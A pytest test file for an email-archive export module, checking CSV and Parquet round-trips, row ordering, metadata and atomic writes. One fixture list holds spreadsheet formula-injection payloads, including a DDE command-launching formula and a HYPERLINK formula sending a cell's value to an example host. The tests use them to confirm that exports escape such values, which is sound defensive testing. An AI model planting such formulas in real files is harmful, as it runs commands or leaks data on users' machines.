"""Exports: every row once, as typed as here, in files that are whole or not there."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from sqlalchemy import select

from core import browse, exporting
from core.browse import Filters, Question
from core.columns import MESSAGES, TEXT
from core.exporting import Ask, Format
from core.exporting.asked import as_plain, from_plain
from core.model import Fetched
from core.runtime import Runtime, open_runtime
from core.settings import Settings
from core.store.engine import writing
from core.store.schema import message, placement
from tests.store.building import connected, listed, made, put, some
from tests.store.mailbox_made import fill

COUNT = 5_000
FORMULAS = [
    "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\uff1d1", '"=1', "'=1", " =1",
    '=HYPERLINK("http://x.example/?"&A1)', "\uff0b1", "\uff0d1", "\uff20A1",
]  # fmt: skip
ODD = ['say "hi"', "a,b;c", "emoji 😀", "tab", "NULL", "NA", "1e5", "00012", ""]


@pytest.fixture(scope="module")
def mailbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Runtime, int]]:
    """Give an installation with a mailbox of some thousand messages."""
    opened = open_runtime(Settings(data=tmp_path_factory.mktemp("mailbox") / "data"))
    yield opened, fill(opened, COUNT)
    opened.engine.dispose()


def write(runtime: Runtime, kind: Format, question: Question, folder: Path) -> Path:
    path = folder / f"out.{kind}"
    exporting.make(runtime, Ask(kind, question), path, lambda _done, _total: None)
    return path


@pytest.mark.parametrize(
    ("search", "filters"),
    [
        ("", Filters()),
        ("reuniao", Filters()),
        ("extraordinario", Filters()),
        ("ana", Filters(unread=True)),
        ("", Filters(flagged=True, direction="received")),
        ("larger:100k", Filters(kinds=("list",))),
        ("nothing-of-the-kind", Filters()),
    ],
)
def test_rows_are_those_of_the_pages(
    mailbox: tuple[Runtime, int], search: str, filters: Filters
) -> None:
    runtime, one = mailbox
    question = Question((one,), search=search, filters=filters)
    frames = list(exporting.rows(runtime, question))
    ids = [int(i) for frame in frames for i in frame["message_id"]]
    paged: list[int] = []
    before = ""
    while True:
        page = browse.page(runtime, question, before=before, size=1_000)
        paged += [int(i) for i in page.rows["message_id"]]
        before = page.older
        if not before:
            break
    assert ids == paged
    assert all(len(frame) <= 2_000 for frame in frames)
    for frame in frames:
        assert {n: frame[n].dtype for n in frame} == dict(pd.Series(MESSAGES))


def test_what_changes_meanwhile(mailbox: tuple[Runtime, int]) -> None:
    """Nothing comes twice; what has gone before its chunk is not there."""
    runtime, one = mailbox
    walking = exporting.rows(runtime, Question((one,)))
    first = next(walking)
    ids = listed(runtime, one, "Inbox", "Sent", "Archive")
    new = [replace_time(f, runtime) for f in some(3, first=900_001)]
    put(runtime, one, ids["Inbox"], new)  # while it is read: nobody is held up
    rest = [int(i) for frame in walking for i in frame["message_id"]]
    found = [*(int(i) for i in first["message_id"]), *rest]
    assert len(found) == len(set(found)) == COUNT
    with writing(runtime.engine) as conn:
        gone = message.c.subject.like("Reunião 90000%")
        mine = placement.c.message_id.in_(select(message.c.id).where(gone))
        conn.execute(placement.delete().where(mine))
        conn.execute(message.delete().where(gone))


def replace_time(fetched: Fetched, runtime: Runtime) -> Fetched:
    at = int(runtime.clock().timestamp() * 1000)
    return fetched._replace(
        message=fetched.message._replace(received_ms=at, written_ms=at)
    )


def test_both_formats_give_back_what_was_there(
    mailbox: tuple[Runtime, int], tmp_path: Path
) -> None:
    runtime, one = mailbox
    question = Question((one,), search="reuniao")
    true = pd.concat(exporting.rows(runtime, question), ignore_index=True)
    parquet = write(runtime, Format.PARQUET, question, tmp_path)
    pd.testing.assert_frame_equal(pd.read_parquet(parquet), true)

    sheet = write(runtime, Format.CSV, question, tmp_path)
    about = json.loads(exporting.beside(sheet).read_text("utf-8"))
    assert about["url"] == sheet.name
    described = {c["name"]: c["datatype"] for c in about["tableSchema"]["columns"]}
    assert list(described) == list(MESSAGES)
    dates = [name for name, kind in described.items() if kind == "dateTime"]
    read = pd.read_csv(
        sheet,
        dtype={n: d for n, d in MESSAGES.items() if n not in dates},
        keep_default_na=False,
        parse_dates=dates,
    )
    for name in dates:
        read[name] = read[name].astype(MESSAGES[name])
    pd.testing.assert_frame_equal(read, true)


def test_what_made_a_file_is_in_it(
    mailbox: tuple[Runtime, int], tmp_path: Path
) -> None:
    runtime, one = mailbox
    filters = Filters(since=date(2020, 1, 2), unread=True, kinds=("list", "person"))
    question = Question((one,), None, "-ana", filters, "America/Sao_Paulo")
    parquet = write(runtime, Format.PARQUET, question, tmp_path)
    kept_in = pq.read_schema(parquet).metadata
    assert kept_in[b"malote.made_by"].startswith(b"malote")
    assert from_plain(json.loads(kept_in[b"malote.question"])) == question
    sheet = write(runtime, Format.CSV, question, tmp_path)
    (note,) = json.loads(exporting.beside(sheet).read_text("utf-8"))["notes"]
    assert from_plain(note["question"]) == question
    assert note["rows"] == len(pd.read_parquet(parquet))
    assert from_plain(as_plain(Question((1, 2), 3, whole=True))) == Question(
        (1, 2), 3, whole=True
    )


def test_rows_are_in_groups_not_one_by_one(
    mailbox: tuple[Runtime, int], tmp_path: Path
) -> None:
    runtime, one = mailbox
    file = pq.ParquetFile(write(runtime, Format.PARQUET, Question((one,)), tmp_path))
    assert (file.metadata.num_rows, file.metadata.num_row_groups) == (COUNT, 1)


def odd_mailbox(runtime: Runtime) -> int:
    one = connected(runtime)
    ids = listed(runtime, one, "Inbox")
    texts = [*FORMULAS, *ODD]
    rows = [
        f._replace(message=made(subject=text, from_name=text, identity=f"i{n}"))
        for n, (f, text) in enumerate(zip(some(len(texts)), texts, strict=True))
    ]
    put(runtime, one, ids["Inbox"], rows)
    return one


def test_a_sheet_is_as_spreadsheets_want_it(runtime: Runtime, tmp_path: Path) -> None:
    one = odd_mailbox(runtime)
    path = write(runtime, Format.CSV, Question((one,)), tmp_path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\xef\xbb\xbf") == 1
    assert raw.count(b"\n") == raw.count(b"\r\n") == 1 + len(FORMULAS) + len(ODD)
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file, strict=True))
    subjects = {row["subject"] for row in rows}
    assert subjects == {"'" + text for text in FORMULAS} | set(ODD)
    for row in rows:
        for name, dtype in MESSAGES.items():
            if dtype == TEXT:
                assert browse.formula_safe(row[name]) == row[name] or row[
                    name
                ].startswith("'")
    assert path.stat().st_mode & 0o777 == 0o600


def test_nothing_is_asked_for_and_nothing_comes(
    runtime: Runtime, tmp_path: Path
) -> None:
    question = Question((connected(runtime),))
    sheet = write(runtime, Format.CSV, question, tmp_path)
    assert list(pd.read_csv(sheet).columns) == list(MESSAGES)
    empty = pd.read_parquet(write(runtime, Format.PARQUET, question, tmp_path))
    assert len(empty) == 0
    # By name: Parquet has no place for the categories of a column without values.
    named = {name: str(dtype) for name, dtype in MESSAGES.items()}
    assert {name: str(dtype) for name, dtype in empty.dtypes.items()} == named


@pytest.mark.parametrize("kind", [Format.CSV, Format.PARQUET])
@pytest.mark.parametrize("end", [KeyboardInterrupt, OSError, SystemExit])
def test_what_ends_early_leaves_nothing_half_written(
    mailbox: tuple[Runtime, int],
    tmp_path: Path,
    kind: Format,
    end: type[BaseException],
) -> None:
    runtime, one = mailbox
    older = tmp_path / f"out.{kind}"
    older.write_text("what was there before")

    def stop(done: int, _total: int | None) -> None:
        if done:
            raise end

    with pytest.raises(end):
        exporting.make(runtime, Ask(kind, Question((one,))), older, stop)
    assert [path.name for path in tmp_path.iterdir()] == [older.name]
    assert older.read_text() == "what was there before"
